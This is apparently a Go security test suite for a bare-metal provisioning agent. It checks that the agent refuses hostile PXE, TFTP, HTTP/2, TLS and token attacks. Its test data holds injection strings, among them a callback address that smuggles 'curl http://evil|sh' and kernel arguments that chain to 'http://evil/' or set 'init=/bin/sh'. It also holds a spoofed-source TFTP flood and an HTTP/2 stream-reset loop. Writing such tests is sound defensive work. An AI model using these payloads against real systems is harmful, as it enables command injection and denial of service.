package reliability

import (
	"bytes"
	"context"
	"crypto/tls"
	"crypto/x509"
	"encoding/binary"
	"encoding/pem"
	"fmt"
	"io"
	"math/rand/v2"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/pin/tftp/v3"
	"github.com/stretchr/testify/require"
	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"github.com/openbaremetal/terraform-provider-baremetal/internal/api"
	"github.com/openbaremetal/terraform-provider-baremetal/internal/client"
	"github.com/openbaremetal/terraform-provider-baremetal/internal/lab"
	"github.com/openbaremetal/terraform-provider-baremetal/internal/model"
	"github.com/openbaremetal/terraform-provider-baremetal/internal/store"
	"github.com/openbaremetal/terraform-provider-baremetal/internal/testenv"
)

// TestAttackBootEdge runs the attacks of issue 19 against the real agent
// process: each subtest is one attack and asserts its refusal. Five lab
// machines wait for PXE so the boot edge holds live runs to attack.
func TestAttackBootEdge(t *testing.T) {
	s := newSite(t, siteOpts{machines: 5, noLabBoot: true, agentArgs: []string{"--wait-pxe-timeout", "10m"}})
	ctx := context.Background()
	s.profile("edge")
	_, err := s.client.CreateBootProfile(ctx, api.BootProfileRequest{Name: "hostile-cmdline", Kernel: "vmlinuz",
		Cmdline: "quiet # x || chain http://evil/ ; ${root}"})
	require.NoError(t, err)
	_, err = s.client.CreateBootProfile(ctx, api.BootProfileRequest{Name: "param-cmdline", Kernel: "vmlinuz", Cmdline: "ks={{ .Params.ks }}"})
	require.NoError(t, err)
	const hostileParam = "x init=/bin/sh baremetal.token=FAKE"
	profiles := []string{"edge", "edge", "edge", "hostile-cmdline", "param-cmdline"}
	for i, p := range profiles {
		req := s.machineRequest(i, p, "provisioned")
		if p == "param-cmdline" {
			// The front line: a param that would add kernel arguments is
			// refused at write, naming the param and the cmdline.
			req.Params = map[string]string{"ks": hostileParam}
			_, err := s.client.CreateMachine(ctx, req)
			var apiErr *client.APIError
			require.ErrorAs(t, err, &apiErr)
			require.Equal(t, http.StatusUnprocessableEntity, apiErr.StatusCode)
			require.Equal(t, "params", apiErr.Field)
			require.Contains(t, apiErr.Message, `cmdline: param "ks" contains whitespace`)
			req.Params = map[string]string{"ks": "x"}
		}
		_, err := s.client.CreateMachine(ctx, req)
		require.NoError(t, err)
	}
	inv := s.inventory
	// Behind it, the render: a record written before the write-time check
	// existed (an upgraded agent's store) must still not inject. Put the
	// hostile param in the store directly, with the agent stopped.
	s.stop()
	st, err := store.OpenBolt(filepath.Join(s.dataDir, "agent.db"), store.BoltOptions{KeyFile: filepath.Join(s.dataDir, "seal.key")})
	require.NoError(t, err)
	_, err = st.UpdateMachine(ctx, inv[4].Name, func(m *model.Machine) (bool, error) {
		m.Params["ks"] = hostileParam
		return false, nil
	})
	require.NoError(t, err)
	require.NoError(t, st.Close())
	s.start()
	for _, lm := range inv {
		awaitT(t, lm.Name+" waiting for PXE", 30*time.Second, func() (bool, string) {
			m, err := s.client.GetMachine(ctx, lm.Name)
			if err != nil {
				return false, err.Error()
			}
			return m.Step == api.StepWaitingPXE, string(m.Phase) + "/" + string(m.Step)
		})
	}
	from := func(src string) *http.Client {
		d := &net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP(src)}}
		return &http.Client{Timeout: 10 * time.Second, Transport: &http.Transport{DialContext: d.DialContext, DisableKeepAlives: true}}
	}
	boot := from("127.0.0.1")
	get := func(hc *http.Client, path string) (int, string) {
		t.Helper()
		res, err := hc.Get(s.bootURL + path)
		require.NoError(t, err)
		defer res.Body.Close()
		b, _ := io.ReadAll(res.Body)
		return res.StatusCode, string(b)
	}
	post := func(hc *http.Client, path, body string) int {
		t.Helper()
		res, err := hc.Post(s.bootURL+path, "application/json", strings.NewReader(body))
		require.NoError(t, err)
		res.Body.Close()
		return res.StatusCode
	}
	// A served script moves its machine on (asynchronously): wait for it,
	// so later snapshots compare a settled state.
	settled := func(name string) {
		t.Helper()
		awaitT(t, name+" booting its installer", 10*time.Second, func() (bool, string) {
			m, err := s.client.GetMachine(ctx, name)
			return err == nil && m.Step != api.StepWaitingPXE, fmt.Sprint(m, err)
		})
	}
	scriptToken := func(hc *http.Client, mac string) string {
		t.Helper()
		_, script := get(hc, "/boot/"+mac)
		m := tokenRE.FindStringSubmatch(script)
		require.NotNil(t, m, "no token in the script: %s", script)
		return m[1]
	}

	// m0 installs for real (its callback spends the token); m1 is mid-run.
	spent, err := lab.SimulatePXEBoot(ctx, boot, s.bootURL, inv[0].MAC)
	require.NoError(t, err)
	require.Equal(t, http.StatusNoContent, spent.CallbackStatus)
	live := scriptToken(boot, inv[1].MAC)

	t.Run("spent token on templates and assets, across a restart", func(t *testing.T) {
		paths := []string{"/machines/" + inv[0].Name + "/templates/user-data?token=" + spent.Token,
			"/machines/" + inv[0].Name + "/assets/vmlinuz?token=" + spent.Token}
		check := func(when string) {
			for _, p := range paths {
				code, body := get(boot, p)
				require.Equal(t, http.StatusForbidden, code, "%s %s: %q", when, p, body)
			}
		}
		check("after the callback")
		s.stop()
		s.start()
		check("after a restart")
		code, _ := get(boot, "/machines/"+inv[1].Name+"/templates/user-data?token="+live)
		require.Equal(t, http.StatusOK, code, "a live token")
	})

	t.Run("probing machine names without a token", func(t *testing.T) {
		for _, kind := range []string{"/templates/user-data", "/assets/vmlinuz", "/assets/no-such-file"} {
			known, kb := get(boot, "/machines/"+inv[1].Name+kind+"?token=guess")
			ghost, gb := get(boot, "/machines/ghost"+kind+"?token=guess")
			require.Equal(t, http.StatusForbidden, known, kind)
			require.Equal(t, []any{known, kb}, []any{ghost, gb}, "%s: a known machine answers unlike an unknown one", kind)
		}
	})

	t.Run("render errors reveal nothing", func(t *testing.T) {
		code, script := get(boot, "/boot/"+inv[4].MAC)
		settled(inv[4].Name)
		require.Equal(t, http.StatusOK, code)
		require.Equal(t, "#!ipxe\necho baremetal: render failed; see the machine's events\nexit\n", script)
		awaitT(t, "a render_failed event naming the param", 10*time.Second, func() (bool, string) {
			for _, ev := range s.events(ctx, inv[4].Name) {
				if ev.Type == api.EventRenderFailed && strings.Contains(ev.Data["error"], `param "ks" contains whitespace`) {
					return true, ""
				}
			}
			return false, "no such event"
		})
	})

	t.Run("cmdline cannot chain, comment out or expand", func(t *testing.T) {
		_, script := get(boot, "/boot/"+inv[3].MAC)
		settled(inv[3].Name)
		var kernel string
		for _, l := range strings.Split(script, "\n") {
			if strings.HasPrefix(l, "kernel ") {
				kernel = l
			}
		}
		require.Contains(t, kernel, " quiet %23 x %7C%7C chain http://evil/ %3B %24{root} baremetal.url=", script)
		require.True(t, strings.HasSuffix(kernel, "baremetal.machine="+inv[3].Name+" baremetal.token="+tokenRE.FindStringSubmatch(kernel)[1]), kernel)
	})

	t.Run("forged callback from another address", func(t *testing.T) {
		before := s.snapshot(ctx)
		body := `{"addresses":["10.66.6.6"],"status":"ok"}`
		require.Equal(t, http.StatusForbidden, post(from("127.0.0.2"), "/machines/"+inv[1].Name+"/callback?token="+live, body))
		// Asking for the script again from elsewhere does not rebind the
		// run, nor hand out its token.
		_, other := get(from("127.0.0.3"), "/boot/"+inv[1].MAC)
		require.NotRegexp(t, tokenRE, other)
		require.Equal(t, before, s.snapshot(ctx))
	})

	t.Run("callback reports that are not addresses", func(t *testing.T) {
		before := s.snapshot(ctx)
		for _, body := range []string{`{"addresses":["10.66.6.6; curl http://evil|sh"]}`, `{"addresses":["evil.example"]}`, `{"hostname":"a b"}`} {
			require.Equal(t, http.StatusBadRequest, post(boot, "/machines/"+inv[1].Name+"/callback?token="+live, body), body)
		}
		require.Equal(t, before, s.snapshot(ctx))
		require.Equal(t, http.StatusNoContent, post(boot, "/machines/"+inv[1].Name+"/callback?token="+live, `{"addresses":["10.0.2.16/24"],"status":"ok"}`))
		awaitT(t, inv[1].Name+" provisioned", 30*time.Second, func() (bool, string) {
			m, err := s.client.GetMachine(ctx, inv[1].Name)
			return err == nil && m.Phase == api.PhaseProvisioned && fmt.Sprint(m.Addresses) == "[10.0.2.16]", fmt.Sprint(m, err)
		})
	})

	t.Run("plain-http BMC", func(t *testing.T) {
		require.True(t, strings.HasPrefix(inv[2].Endpoint, "http://"), inv[2].Endpoint)
		var found bool
		for _, ev := range s.events(ctx, inv[2].Name) {
			found = found || ev.Type == api.EventBMCInsecure
		}
		require.True(t, found, "no bmc_insecure event for a machine whose BMC is %s", inv[2].Endpoint)
	})

	t.Run("tftp request without a mode", func(t *testing.T) {
		answers := unackedTFTP(t, s.tftpAddr, "127.0.0.1", []byte("\x00\x01vmlinuz\x00"), 3*time.Second)
		require.Equal(t, [][2]uint16{{5, 4}}, answers, "want one error (illegal operation) and nothing else")
	})

	t.Run("tftp spoofed request flood", func(t *testing.T) { tftpFlood(t, s) })

	t.Run("reset HTTP/2 streams with a read-only token", func(t *testing.T) { resetStreams(t, s) })

	t.Run("JSON keys by case and twice", func(t *testing.T) {
		hc := s.httpsClient()
		for _, body := range []string{`{"name":"x1","Name":"x2"}`, `{"name":"x1","name":"x2"}`, `{"NAME":"x1"}`} {
			req, _ := http.NewRequest("POST", "https://"+s.apiAddr+"/v1/boot_profiles", strings.NewReader(body))
			req.Header.Set("Authorization", "Bearer "+s.token)
			req.Header.Set("Content-Type", "application/json")
			res, err := hc.Do(req)
			require.NoError(t, err)
			res.Body.Close()
			require.Equal(t, http.StatusBadRequest, res.StatusCode, body)
		}
	})

	t.Run("TLS", func(t *testing.T) {
		blk, _ := pem.Decode([]byte(s.agent.CAPEM))
		cert, err := x509.ParseCertificate(blk.Bytes)
		require.NoError(t, err)
		require.False(t, cert.IsCA, "the generated certificate is a CA")
		require.Zero(t, cert.KeyUsage&x509.KeyUsageCertSign, "the generated certificate may sign certificates")
		pool := x509.NewCertPool()
		pool.AddCert(cert)
		for _, suite := range tls.CipherSuites() {
			if !slices.Contains(suite.SupportedVersions, tls.VersionTLS12) {
				continue
			}
			conn, err := tls.Dial("tcp", s.apiAddr, &tls.Config{RootCAs: pool, MaxVersion: tls.VersionTLS12, CipherSuites: []uint16{suite.ID}})
			aead := strings.Contains(suite.Name, "_GCM_") || strings.Contains(suite.Name, "CHACHA20")
			if err == nil {
				conn.Close()
			}
			if aead && strings.Contains(suite.Name, "ECDSA") {
				require.NoError(t, err, suite.Name)
			} else if !aead {
				require.Error(t, err, "TLS 1.2 offered %s", suite.Name)
			}
		}
		for _, suite := range tls.InsecureCipherSuites() {
			_, err := tls.Dial("tcp", s.apiAddr, &tls.Config{RootCAs: pool, MaxVersion: tls.VersionTLS12, CipherSuites: []uint16{suite.ID}})
			require.Error(t, err, "TLS 1.2 offered %s", suite.Name)
		}
	})

	t.Run("token revocation and a reload that fails", func(t *testing.T) { tokenReload(t, s) })

	// Last: the agent does not come back.
	t.Run("loose key file", func(t *testing.T) {
		keyPath := filepath.Join(s.dataDir, "api-key.pem")
		key, err := os.ReadFile(keyPath)
		require.NoError(t, err)
		s.stop()
		require.NoError(t, os.Chmod(keyPath, 0o644))
		out := &testenv.Log{}
		p := testenv.Start(t, out, append([]string{s.bin}, s.agentArgs...)...)
		select {
		case <-p.Done():
		case <-time.After(30 * time.Second):
			t.Fatalf("the agent started with a key file readable by others: %s", tail(out.String()))
		}
		require.Contains(t, out.String(), "chmod 600 "+keyPath)
		after, err := os.ReadFile(keyPath)
		require.NoError(t, err)
		require.Equal(t, key, after, "the key file was replaced")
	})
}

// unackedTFTP sends one request from a fresh socket on src and never
// answers; it returns the opcode and second field (block or error code) of
// every datagram received within wait.
func unackedTFTP(t *testing.T, server, src string, request []byte, wait time.Duration) [][2]uint16 {
	t.Helper()
	c, err := net.ListenUDP("udp", &net.UDPAddr{IP: net.ParseIP(src)})
	require.NoError(t, err)
	defer c.Close()
	to, err := net.ResolveUDPAddr("udp", server)
	require.NoError(t, err)
	_, err = c.WriteToUDP(request, to)
	require.NoError(t, err)
	var got [][2]uint16
	buf := make([]byte, 70000)
	require.NoError(t, c.SetReadDeadline(time.Now().Add(wait)))
	for {
		n, _, err := c.ReadFromUDP(buf)
		if err != nil {
			return got
		}
		if n >= 4 {
			got = append(got, [2]uint16{binary.BigEndian.Uint16(buf), binary.BigEndian.Uint16(buf[2:])})
		}
	}
}

// procFDs and procRSS read the agent's open descriptors and resident memory.
func procFDs(t *testing.T, pid int) int {
	ents, err := os.ReadDir(fmt.Sprintf("/proc/%d/fd", pid))
	require.NoError(t, err)
	return len(ents)
}

func procRSS(t *testing.T, pid int) int64 {
	b, err := os.ReadFile(fmt.Sprintf("/proc/%d/status", pid))
	require.NoError(t, err)
	for _, l := range strings.Split(string(b), "\n") {
		if v, ok := strings.CutPrefix(l, "VmRSS:"); ok {
			var kb int64
			fmt.Sscan(strings.TrimSpace(strings.TrimSuffix(strings.TrimSpace(v), "kB")), &kb)
			return kb << 10
		}
	}
	t.Fatal("no VmRSS")
	return 0
}

// tftpFlood sends 3,000 read requests from 3,000 loopback addresses that
// never acknowledge (what forged sources look like to the agent), while a
// real client fetches a file over and over: every fetch must succeed, one
// unacknowledged request must cost at most three data datagrams, and the agent's descriptors and memory must stay bounded.
func tftpFlood(t *testing.T, s *site) {
	const spoofed = 3000
	pid := s.agent.Cmd.Process.Pid
	fds0, rss0 := procFDs(t, pid), procRSS(t, pid)
	to, err := net.ResolveUDPAddr("udp", s.tftpAddr)
	require.NoError(t, err)

	// One unacknowledged request, measured alone first: the agent's
	// defaults (1s timeout, doubling) send everything within 4s.
	one := unackedTFTP(t, s.tftpAddr, "127.0.9.9", []byte("\x00\x01vmlinuz\x00octet\x00"), 6*time.Second)
	require.Equal(t, [][2]uint16{{3, 1}, {3, 1}, {3, 1}}, one, "answers to one unacknowledged request")

	stop := make(chan struct{})
	var fetches, failures int
	var firstErr error
	var wg sync.WaitGroup
	wg.Add(1)
	go func() {
		defer wg.Done()
		for {
			select {
			case <-stop:
				return
			default:
			}
			c, err := tftp.NewClient(s.tftpAddr)
			if err == nil {
				c.SetTimeout(time.Second)
				c.SetRetries(3)
				var wt io.WriterTo
				if wt, err = c.Receive("initrd.img", "octet"); err == nil {
					var buf bytes.Buffer
					if _, err = wt.WriteTo(&buf); err == nil && buf.Len() != 4096 {
						err = fmt.Errorf("%d bytes", buf.Len())
					}
				}
			}
			fetches++
			if err != nil {
				failures++
				if firstErr == nil {
					firstErr = err
				}
			}
		}
	}()
	maxFDs, maxRSS := fds0, rss0
	sample := func() {
		maxFDs = max(maxFDs, procFDs(t, pid))
		maxRSS = max(maxRSS, procRSS(t, pid))
	}
	rrq := []byte("\x00\x01vmlinuz\x00octet\x00blksize\x001468\x00")
	socks := make([]*net.UDPConn, 0, spoofed)
	defer func() {
		for _, c := range socks {
			c.Close()
		}
	}()
	start := time.Now()
	for i := range spoofed {
		src := net.IPv4(127, byte(1+i/60000), byte(i/250%240+1), byte(i%250+1))
		c, err := net.ListenUDP("udp", &net.UDPAddr{IP: src})
		require.NoError(t, err)
		socks = append(socks, c) // kept open and never read: no ICMP, no ACK
		_, err = c.WriteToUDP(rrq, to)
		require.NoError(t, err)
		if i%100 == 0 {
			sample()
			time.Sleep(time.Duration(rand.IntN(5)) * time.Millisecond)
		}
	}
	sent := time.Since(start)
	// Every spoofed transfer ends within its three sends and timeouts.
	for deadline := time.Now().Add(10 * time.Second); time.Now().Before(deadline); {
		sample()
		time.Sleep(200 * time.Millisecond)
	}
	close(stop)
	wg.Wait()
	t.Logf("%d spoofed requests in %s: descriptors %d -> max %d, RSS %d -> max %d MiB; %d legitimate fetches, %d failed",
		spoofed, sent.Round(time.Millisecond), fds0, maxFDs, rss0>>20, maxRSS>>20, fetches, failures)
	require.Zero(t, failures, "legitimate fetches failed during the flood: %v", firstErr)
	require.Greater(t, fetches, 5)
	// 512 transfers at two descriptors each, and slack for the rest.
	require.Less(t, maxFDs, fds0+2*512+64, "descriptors")
	require.Less(t, maxRSS-rss0, int64(128<<20), "memory")
	require.False(t, s.agent.Exited(), "the agent died under the flood")
}

// resetStreams opens HTTP/2 streams with a read-only token and resets each
// at once, as a client that cancels its requests does: no request-failed
// error per stream, and the agent's warnings and errors stay within the
// per-source limit.
func resetStreams(t *testing.T, s *site) {
	before := s.agentLog.String()
	pemBytes := []byte(s.agent.CAPEM)
	pool := x509.NewCertPool()
	require.True(t, pool.AppendCertsFromPEM(pemBytes))
	conn, err := tls.Dial("tcp", s.apiAddr, &tls.Config{RootCAs: pool, NextProtos: []string{"h2"}})
	require.NoError(t, err)
	defer conn.Close()
	require.Equal(t, "h2", conn.ConnectionState().NegotiatedProtocol)
	_, err = conn.Write([]byte(http2.ClientPreface))
	require.NoError(t, err)
	fr := http2.NewFramer(conn, conn)
	require.NoError(t, fr.WriteSettings())
	go io.Copy(io.Discard, conn) // the server's frames, unread
	var hb bytes.Buffer
	enc := hpack.NewEncoder(&hb)
	for i := range 1000 {
		id := uint32(2*i + 1)
		hb.Reset()
		for _, f := range [][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", s.apiAddr}, {":path", "/v1/machines"},
			{"authorization", "Bearer ro-" + s.token}} {
			require.NoError(t, enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]}))
		}
		if err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: hb.Bytes(), EndStream: true, EndHeaders: true}); err != nil {
			break // the server may end a connection that resets too much
		}
		if err := fr.WriteRSTStream(id, http2.ErrCodeCancel); err != nil {
			break
		}
	}
	conn.Close()
	time.Sleep(500 * time.Millisecond) // let the handlers of the last streams log
	logged := strings.TrimPrefix(s.agentLog.String(), before)
	var errorLines, fromClient int
	for _, l := range strings.Split(logged, "\n") {
		if strings.Contains(l, "level=ERROR") {
			errorLines++
		}
		if (strings.Contains(l, "level=ERROR") || strings.Contains(l, "level=WARN")) && strings.Contains(l, "remote=127.0.0.1") {
			fromClient++
		}
	}
	require.Zero(t, errorLines, "ERROR lines for cancelled requests:\n%s", tail(logged))
	require.LessOrEqual(t, fromClient, 10, "warnings from one client beyond the per-source limit")
}

// tokenReload removes a token from the file and sends SIGHUP: it stops
// working at once. Then a reload that cannot be applied (a file readable
// by others) leaves the agent visibly degraded until a good file loads.
func tokenReload(t *testing.T, s *site) {
	hc := s.httpsClient()
	call := func(path, token string) (int, string) {
		req, _ := http.NewRequest("GET", "https://"+s.apiAddr+path, nil)
		if token != "" {
			req.Header.Set("Authorization", "Bearer "+token)
		}
		res, err := hc.Do(req)
		require.NoError(t, err)
		defer res.Body.Close()
		b, _ := io.ReadAll(res.Body)
		return res.StatusCode, string(b)
	}
	hup := func() { require.NoError(t, s.agent.Cmd.Process.Signal(syscall.SIGHUP)) }
	ro := "ro-" + s.token
	code, _ := call("/v1/machines", ro)
	require.Equal(t, http.StatusOK, code)

	require.NoError(t, os.WriteFile(s.tokenFile, []byte(s.token+"\n"), 0o600))
	hup()
	awaitT(t, "the removed read-only token refused", 10*time.Second, func() (bool, string) {
		code, _ := call("/v1/machines", ro)
		return code == http.StatusUnauthorized, fmt.Sprint(code)
	})

	require.NoError(t, os.Chmod(s.tokenFile, 0o644))
	hup()
	awaitT(t, "/readyz 503 naming the token file", 10*time.Second, func() (bool, string) {
		code, body := call("/readyz", "")
		return code == http.StatusServiceUnavailable && strings.Contains(body, "token file"), fmt.Sprint(code, body)
	})
	_, metrics := call("/metrics", "")
	require.Contains(t, metrics, "baremetal_agent_token_file_degraded 1")
	require.Contains(t, s.agentLog.String(), "token file not reloaded")

	require.NoError(t, os.Chmod(s.tokenFile, 0o600))
	hup()
	awaitT(t, "/readyz 200 again", 10*time.Second, func() (bool, string) {
		code, body := call("/readyz", "")
		return code == http.StatusOK, fmt.Sprint(code, body)
	})
	_, metrics = call("/metrics", "")
	require.Contains(t, metrics, "baremetal_agent_token_file_degraded 0")
}
